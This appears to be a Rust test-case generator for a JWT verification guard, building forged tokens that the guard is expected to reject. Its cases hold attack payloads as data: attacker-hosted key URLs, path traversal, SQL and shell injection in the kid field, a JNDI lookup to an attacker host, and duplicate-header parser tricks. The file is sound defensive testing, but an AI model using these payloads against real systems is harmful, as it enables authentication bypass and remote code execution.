//! Headers that bring keys, name keys, or want something understood.

use base64::{Engine as _, prelude::BASE64_STANDARD};
use serde_json::{Value, json};
use tower_mfa::guard::{Algorithm, Reason};

use crate::forge::{Case, World, claims, encode, good, header, sign};

/// A token that says what it is to be verified with.
pub(crate) fn embedded_keys(world: &World) -> Vec<Case> {
    let mut cases = Vec::new();
    for algorithm in [Algorithm::Rs256, Algorithm::Es256] {
        let attacker = world.attacker.key(algorithm);
        let issuer = world.issuer.key(algorithm);
        for (member, value) in [
            ("jwk", attacker.jwk()),
            ("jku", json!("https://attacker.example/jwks.json")),
            (
                "jku",
                json!("https://issuer.example/../attacker.example/jwks.json"),
            ),
            ("jku", json!("file:///dev/null")),
            ("x5u", json!("https://attacker.example/key.pem")),
            ("x5c", json!([BASE64_STANDARD.encode(attacker.der())])),
            ("x5c", json!([])),
            ("jwk", Value::Null),
        ] {
            for (who, key) in [("attacker", attacker), ("issuer", issuer)] {
                for named in [true, false] {
                    let mut header = header(key);
                    header[member] = value.clone();
                    if !named {
                        header.as_object_mut().unwrap().remove("kid");
                    }
                    cases.push(Case::new(
                        format!(
                            "{} {member} {value}, signed by the {who}, kid: {named}",
                            algorithm.name()
                        ),
                        sign(key, header.to_string(), claims().to_string()),
                        Reason::MalformedToken,
                    ));
                }
            }
        }
    }
    cases
}

/// Names of keys that are paths, statements, or far too much.
pub(crate) fn key_names(world: &World) -> Vec<Case> {
    use Reason::{MalformedToken, Signature, UnknownKey};
    let named = |kid: Value| {
        let mut header = header(world.es256());
        header["kid"] = kid;
        world.with_header(&header)
    };
    let mut cases = Vec::new();
    for (kid, reason) in [
        ("../../../../dev/null", UnknownKey),
        ("/proc/sys/kernel/randomize_va_space", UnknownKey),
        ("file:///dev/null", UnknownKey),
        ("https://attacker.example/jwks.json", UnknownKey),
        ("' OR '1'='1", UnknownKey),
        ("x' UNION SELECT 'test';--", UnknownKey),
        ("$(id)", UnknownKey),
        ("|id", UnknownKey),
        ("{{7*7}}", UnknownKey),
        ("${jndi:ldap://attacker.example/x}", UnknownKey),
        ("*", UnknownKey),
        ("test-", UnknownKey),
        ("TEST-ES256", UnknownKey),
        ("test-ES256 ", UnknownKey),
        ("test-ES25\u{ff16}", UnknownKey),
        ("__proto__", UnknownKey),
        ("null", UnknownKey),
        ("0", UnknownKey),
        // of another algorithm
        ("test-RS256", UnknownKey),
        // of another key for the same algorithm
        ("test-next", Signature),
        ("", MalformedToken),
        ("test-ES256\0", MalformedToken),
        ("test-ES256\n", MalformedToken),
        ("test\u{7f}", MalformedToken),
        ("test\u{85}", MalformedToken),
    ] {
        cases.push(Case::new(format!("{kid:?}"), named(kid.into()), reason));
    }
    for kid in [
        Value::Null,
        json!(0),
        json!(true),
        json!(["test-ES256"]),
        json!({"kid": "test-ES256"}),
    ] {
        cases.push(Case::new(kid.to_string(), named(kid), MalformedToken));
    }
    for bytes in [257, 8 * 1024, 1024 * 1024] {
        let token = named("k".repeat(bytes).into());
        cases.push(Case::new(format!("{bytes} bytes"), token, MalformedToken));
    }
    let mut nameless = header(world.es256());
    nameless.as_object_mut().unwrap().remove("kid");
    let token = world.with_header(&nameless);
    cases.push(Case::new(
        "no name where two keys could be meant",
        token,
        UnknownKey,
    ));
    cases
}

/// What has to be understood, is not.
pub(crate) fn critical(world: &World) -> Vec<Case> {
    let mut cases = Vec::new();
    for crit in [
        json!(["exp"]),
        json!(["b64"]),
        json!(["alg"]),
        json!(["crit"]),
        json!(["https://issuer.example/unknown"]),
        json!(["dangling"]),
        json!(["exp", "exp"]),
        json!([""]),
        json!([1]),
        json!([null]),
        json!([[]]),
        json!([]),
        json!(null),
        json!("exp"),
        json!({}),
        json!(false),
    ] {
        let mut header = header(world.es256());
        header["exp"] = 0.into();
        header["https://issuer.example/unknown"] = true.into();
        header["crit"] = crit.clone();
        cases.push(Case::new(
            crit.to_string(),
            world.with_header(&header),
            Reason::MalformedToken,
        ));
    }
    cases
}

/// Claims that are not encoded (RFC 7797), are encrypted, or compressed.
pub(crate) fn transformed(world: &World) -> Vec<Case> {
    let key = world.es256();
    let mut cases = Vec::new();
    let mut case = |name: &str, token: String| {
        cases.push(Case::new(name, token, Reason::MalformedToken));
    };
    let mut plain = header(key);
    plain["b64"] = false.into();
    plain["crit"] = json!(["b64"]);
    let signed = format!("{}.{}", encode(plain.to_string()), claims());
    let signature = encode(key.sign(signed.as_bytes()));
    case(
        "b64 false, claims as they are",
        format!("{signed}.{signature}"),
    );
    let encoded = encode(plain.to_string());
    case("b64 false, detached", format!("{encoded}..{signature}"));
    case("b64 false, claims encoded", world.with_header(&plain));
    for value in [json!(false), json!(true), json!(null), json!("false")] {
        let mut header = header(key);
        header["b64"] = value.clone();
        case(
            &format!("b64 {value}, not critical"),
            world.with_header(&header),
        );
    }
    for (member, value) in [
        ("zip", json!("DEF")),
        ("zip", json!(null)),
        ("enc", json!("A256GCM")),
        ("enc", json!("none")),
    ] {
        let mut header = header(key);
        header[member] = value.clone();
        case(&format!("{member} {value}"), world.with_header(&header));
    }
    let [header, _, signature] = crate::forge::parts(&good(key)).map(str::to_owned);
    case("detached", format!("{header}..{signature}"));
    cases
}

/// Members that are there twice, so that two readers may read two things.
pub(crate) fn repeated(world: &World) -> Vec<Case> {
    [
        r#""alg":"none""#,
        r#""alg":"ES256""#,
        r#""\u0061lg":"none""#,
        r#""al\u0067":"HS256""#,
        r#""typ":"JWT""#,
        r#""t\u0079p":"at+jwt""#,
        r#""kid":"test-next""#,
        r#""k\u0069d":"test-ES256""#,
        r#""x":1,"x":1"#,
        r#""":1,"":2"#,
        r#""x":{"y":1,"y":2}"#,
        r#""x":[{"y":{"z":1,"\u007a":1}}]"#,
        r#""\ud83d\ude00":1,"😀":2"#,
    ]
    .into_iter()
    .map(|members| {
        Case::new(
            members,
            world.with_header_text(members),
            Reason::MalformedToken,
        )
    })
    .collect()
}
